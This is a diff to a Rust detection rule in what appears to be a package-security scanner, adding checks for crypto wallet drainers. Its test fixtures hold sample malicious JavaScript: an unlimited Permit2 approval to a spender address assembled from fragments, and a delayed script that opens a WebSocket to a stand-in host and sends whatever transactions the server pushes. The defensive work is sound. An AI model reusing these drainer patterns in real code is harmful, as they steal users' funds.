@@ -1,7 +1,8 @@
 //! `code/wallet-drainer`.
 
-use super::{chain, finding, per_signal};
+use super::{chain, describe, finding, flow_finding, flows, one_per_sink, per_signal};
 use crate::CodeFinding;
+use crate::flow::{SinkKind, SourceKind};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -19,8 +20,12 @@ diligence_finding::declare_rule! {
     /// signer object (`token.approve(MINE, MaxUint256)`, `nft.setApprovalForAll(MINE, true)`,
     /// `signer.sendTransaction({ to: MINE, value })`, Solana's `SystemProgram.transfer({ toPubkey: VAULT,
     /// lamports })` with `VAULT = new PublicKey('<literal>')`) and permit messages (EIP-2612, Permit2) whose `spender`
-    /// is a hard-coded address. A hard-coded address is a literal, a constant, or a member of a constant
-    /// configuration object (`to: CFG.receiver` with `var CFG = { receiver: '0x…', … }`). High; critical when the
+    /// is a hard-coded address. A hard-coded address is a literal, a constant, a member of a constant
+    /// configuration object (`to: CFG.receiver` with `var CFG = { receiver: '0x…', … }`), or a class getter that
+    /// assembles one (`get spender() { return ['0x7F', 'd1…'].join(''); }`). Also wallet requests that send or
+    /// sign (`eth_sendTransaction`, `eth_signTypedData_v4`, `personal_sign`…) whose content a WebSocket or event
+    /// stream to a host the package names pushes (critical: the server picks what the victim approves, so the
+    /// code holds no address or amount). High; critical when the
     /// amount is unlimited
     /// (`'f'.repeat(64)`, `MaxUint256`) or the file builds more than one such transaction (approve every
     /// token, then sweep the native balance); a Solana transfer in a file that reads the wallet's balance
@@ -39,13 +44,17 @@ diligence_finding::declare_rule! {
     /// Connector libraries (wagmi, web3modal, EIP-1193 wrappers) pass the caller's transaction through: their
     /// `to` and `data` are parameters, not constants, and are not reported. A donation or tip widget that
     /// hard-codes its author's address would be reported (high); a DEX helper that hand-builds an approval to a
-    /// hard-coded router would be too — both are rare in a library and worth a reviewer's look.
+    /// hard-coded router would be too — both are rare in a library and worth a reviewer's look. Swap widgets send
+    /// the transaction an aggregator's HTTP API returns for the user's quote: a `fetch` response is not a push
+    /// channel and is not reported.
     pub static WALLET_DRAINER = { id: "code/wallet-drainer", severity: Severity::Critical };
 }
 
-/// One finding per transaction object that moves funds to a hard-coded address.
+/// One finding per transaction object that moves funds to a hard-coded address, and per
+/// wallet request whose content a push channel the package opens dictates.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
-    per_signal(p, Kind::WalletDrain, |f, s| {
+    let mut out = pushed(p);
+    out.extend(per_signal(p, Kind::WalletDrain, |f, s| {
         let several = f.of(Kind::WalletDrain).count() >= 2;
         let sev = if s.detail.contains("unlimited") || several {
             Severity::Critical
@@ -61,7 +70,39 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             format!("wallet transaction built by the package: {}", s.detail),
             chain(p, f, s, &[Kind::WalletAddress, Kind::Network]),
         ))
-    })
+    }));
+    out
+}
+
+/// Wallet requests (send, sign) built from what a WebSocket or event stream to a host the
+/// package names pushes: the server picks the transaction or message, the page only asks
+/// the user's wallet to approve it. Critical.
+fn pushed(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = Vec::new();
+    for path in flows(p, &[SourceKind::NetworkData], &[SinkKind::Wallet]) {
+        let Some((client, url)) = path
+            .from
+            .what
+            .strip_prefix("response of ")
+            .and_then(|r| r.split_once(" from "))
+        else {
+            continue;
+        };
+        if !matches!(client, "WebSocket" | "EventSource") || crate::text::url_host(url).is_empty() {
+            continue;
+        }
+        out.push(flow_finding(
+            &WALLET_DRAINER,
+            Severity::Critical,
+            p,
+            path,
+            format!(
+                "wallet request dictated by a server push channel: {}",
+                describe(path)
+            ),
+        ));
+    }
+    one_per_sink(out)
 }
 
 #[cfg(test)]
@@ -228,6 +269,78 @@ exports.send = function (p, tx) {
             (
                 "index.js",
                 "const { PublicKey, SystemProgram, Transaction } = require('@solana/web3.js');\nexports.fee = async function (conn, payer, opts) {\n  const bal = await conn.getBalance(payer.publicKey);\n  const amt = Math.floor(bal * opts.feeBps / 10000);\n  return new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(opts.feeRecipient), lamports: amt }));\n};\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/wallet-drainer").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A Permit2 batch whose spender a class getter assembles from fragments and whose
+    /// amount is a named maximum constant: signed once, it lets the spender pull every token.
+    #[test]
+    fn positive_permit_batch_spender_from_a_getter() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/session.js",
+                "const MAX = '0xffffffffffffffffffffffffffffffffffffffff';\nclass Session {\n  constructor(p, a) { this.p = p; this.a = a; }\n  get spender() { return ['0x7Fd1', 'c2B4', 'e0A9', '3f5D', '8a61', 'B0c7', 'e2D9', '4F03', '1aE6', '5b28'].join(''); }\n  async sign(tokens) {\n    const message = { details: tokens.map((token) => ({ token, amount: MAX, nonce: 0 })), spender: this.spender, sigDeadline: 1 };\n    return this.p.request({ method: 'eth_signTypedData_v4', params: [this.a, JSON.stringify({ primaryType: 'PermitBatch', message })] });\n  }\n}\nmodule.exports = { Session };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
+        assert_eq!(
+            (f.line, f.severity),
+            (6, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a swap SDK signs a permit for the spender its caller (or its
+    /// API) names; a getter that returns a field is not a constant.
+    #[test]
+    fn negative_permit_for_the_callers_spender_via_getter() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/permit.js",
+                "const MAX = '0xffffffffffffffffffffffffffffffffffffffff';\nclass Permit {\n  constructor(opts) { this.opts = opts; }\n  get spender() { return this.opts.router; }\n  message(token) { return { details: [{ token, amount: MAX, nonce: 0 }], spender: this.spender, sigDeadline: 1 }; }\n}\nmodule.exports = { Permit };\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/wallet-drainer").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A web component that, after a fake "connect" prompt, opens a WebSocket to a host it
+    /// assembles and asks the wallet to send whatever transactions the server pushes.
+    #[test]
+    fn positive_transactions_pushed_over_a_websocket() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/player.js",
+                "function boot() {\n  const host = ['wss:', '', 'sync.example.com', 'ws'].join('/');\n  const prov = window.ethereum;\n  prov.request({ method: 'eth_requestAccounts' }).then((accts) => {\n    const sock = new WebSocket(host);\n    sock.onmessage = async (ev) => {\n      const job = JSON.parse(ev.data);\n      for (const tx of job.txs) { tx.from = accts[0]; await prov.request({ method: 'eth_sendTransaction', params: [tx] }); }\n    };\n  });\n}\nsetTimeout(boot, 3500);\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
+        assert_eq!(
+            (f.line, f.severity),
+            (8, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a swap widget sends the transaction the aggregator's HTTP API
+    /// returned for the user's quote.
+    #[test]
+    fn negative_swap_widget_sends_the_quoted_transaction() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/swap.js",
+                "export async function swap(provider, from, quote) {\n  const res = await fetch('https://api.example.com/swap?q=' + quote.id);\n  const tx = await res.json();\n  return provider.request({ method: 'eth_sendTransaction', params: [{ ...tx, from }] });\n}\n",
             ),
         ]);
         assert!(
